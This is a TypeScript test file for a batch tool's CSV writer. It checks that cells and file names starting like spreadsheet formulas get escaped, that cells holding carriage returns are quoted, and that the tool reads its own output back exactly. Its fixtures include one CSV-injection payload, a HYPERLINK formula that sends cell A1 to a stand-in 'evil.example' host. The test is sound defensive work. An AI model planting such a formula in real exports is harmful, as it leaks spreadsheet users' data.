/**
 * CSV that spreadsheets and Python read safely: cells that start like a formula are escaped (unless --csv-raw),
 * every cell holding a CR or LF is quoted, and omni-batch reads its own escaped values back exactly.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { ResultFile } from '../src/shared/output/result-file.js';
import { startStandIn, type StandIn } from './stand-in/server.js';
import { runMain, tempDir } from './helpers.js';

const KEY = 'sk-csv-injection-SENTINEL-5b7e';
/** Answers chosen by a word in the file: a formula, a bare CR, a value that already starts with a quote. */
const ANSWERS: Record<string, string> = {
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  cr: 'line one\rline two',
  quoted: "'=already quoted",
  plain: 'a plain answer',
};
let api: StandIn;
before(async () => {
  api = await startStandIn({ apiKey: KEY, answer: (req) => ANSWERS[Object.keys(ANSWERS).find((k) => req.lastUserText.includes(`kind:${k}`)) ?? 'plain'] ?? '' });
});
after(() => api.close());
const env = () => ({ DASHSCOPE_API_KEY: KEY, DASHSCOPE_BASE_URL: api.baseURL });

/** One text file per answer kind, named so that paths start like formulas too (and one name holds a CR). */
async function inputs(): Promise<{ dir: string; names: string[] }> {
  const dir = await tempDir();
  await mkdir(path.join(dir, 'in'));
  const names = ['=formula.txt', '+plus.txt', '-minus.txt', '@at.txt', 'c\rr.txt', "'=quoted.txt", 'plain.txt'];
  const kinds = ['formula', 'plus', 'minus', 'at', 'cr', 'quoted', 'plain'];
  await Promise.all(names.map((n, i) => writeFile(path.join(dir, 'in', n), `kind:${kinds[i]}\n`)));
  return { dir, names };
}

/** The records Python's csv module reads. */
function pythonCsv(file: string): string[][] {
  const code = 'import csv,json,sys\nprint(json.dumps(list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))))';
  return JSON.parse(execFileSync('python3', ['-c', code, file], { encoding: 'utf8' })) as string[][];
}

function byPath(records: string[][]): Map<string, Record<string, string>> {
  const [header = [], ...rows] = records;
  return new Map(rows.map((r) => [r[header.indexOf('path')] ?? '', Object.fromEntries(header.map((h, i) => [h, r[i] ?? '']))]));
}

describe('CSV formula injection and bare CR', () => {
  test('formula-like answers and paths get a leading quote, CR cells are quoted, and a rerun reads them back and sends nothing', async () => {
    const { dir, names } = await inputs();
    const out = path.join(dir, 'out.csv');
    const argv = ['run', '--input', '.', '--prompt', 'Answer', '--out', out];
    const from = api.requests.length;
    const r = await runMain(argv, { env: env(), cwd: path.join(dir, 'in') });
    assert.equal(r.code, 0, r.stderr);
    const records = pythonCsv(out);
    assert.equal(records.length, 1 + names.length, 'Python reads one record per row');
    const rows = byPath(records);
    assert.equal(rows.get("'=formula.txt")?.answer, `'${ANSWERS.formula}`);
    assert.equal(rows.get("'+plus.txt")?.answer, "'+1+1");
    assert.equal(rows.get("'-minus.txt")?.answer, "'-2+3");
    assert.equal(rows.get("'@at.txt")?.answer, "'@SUM(A1:A9)");
    assert.equal(rows.get('c\rr.txt')?.answer, 'line one\rline two');
    assert.equal(rows.get("''=quoted.txt")?.answer, "''=already quoted");
    assert.equal(rows.get('plain.txt')?.answer, 'a plain answer');

    // omni-batch's own reader gives the values as they were.
    const own = new Map<string, string>();
    for await (const row of ResultFile.readRows(out, 'csv')) own.set(row.path, row.answers[0] ?? '');
    assert.deepEqual([...own.keys()].sort(), [...names].sort());
    assert.equal(own.get('=formula.txt'), ANSWERS.formula);
    assert.equal(own.get("'=quoted.txt"), ANSWERS.quoted);
    assert.equal(own.get('c\rr.txt'), ANSWERS.cr);

    const again = await runMain(argv, { env: env(), cwd: path.join(dir, 'in') });
    assert.equal(again.code, 0, again.stderr);
    assert.equal(api.requests.length - from, names.length, 'the rerun sends nothing: every path and id read back exactly');
    assert.match(again.stdout, new RegExp(`${names.length} rows in .*out\\.csv: ${names.length} ok`));
  });

  test('--csv-raw writes the cells as they are, still one record per row, and resumes alike', async () => {
    const { dir, names } = await inputs();
    const out = path.join(dir, 'raw.csv');
    const argv = ['run', '--input', '.', '--prompt', 'Answer', '--out', out, '--csv-raw'];
    const from = api.requests.length;
    const r = await runMain(argv, { env: env(), cwd: path.join(dir, 'in') });
    assert.equal(r.code, 0, r.stderr);
    const records = pythonCsv(out);
    assert.equal(records.length, 1 + names.length);
    const rows = byPath(records);
    assert.equal(rows.get('=formula.txt')?.answer, ANSWERS.formula);
    assert.equal(rows.get('-minus.txt')?.answer, '-2+3');
    const again = await runMain(argv, { env: env(), cwd: path.join(dir, 'in') });
    assert.equal(again.code, 0, again.stderr);
    assert.equal(api.requests.length - from, names.length);
  });
});
